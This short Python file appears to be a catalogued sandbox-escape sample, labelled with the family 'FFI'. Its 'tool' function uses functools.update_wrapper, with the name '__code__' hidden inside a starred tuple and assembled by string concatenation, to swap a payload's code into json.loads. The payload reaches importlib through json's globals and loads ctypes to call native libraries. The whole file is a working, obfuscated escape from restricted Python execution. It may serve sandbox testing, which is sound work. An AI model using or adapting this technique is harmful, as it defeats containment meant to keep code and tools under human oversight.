# family: FFI
# escape: update_wrapper(*args) copies "__code__" (hidden in a starred tuple) from payload onto json.loads; the
# payload then runs with json's globals, where `codecs` is the codecs module: codecs.sys.modules["importlib"] loads
# ctypes.util and ctypes.
import dataclasses
import functools
import json

def payload(name, *args, **kwargs):
    importlib = codecs.sys.modules["importlib"]
    return importlib.import_module("ctypes").CDLL(importlib.import_module("ctypes.util").find_library(name))

def tool(name: str = "c", word: str = "code"):
    functools.update_wrapper(*(json.loads, payload, ("__" + word + "__",), ()))
    return json.loads(name)
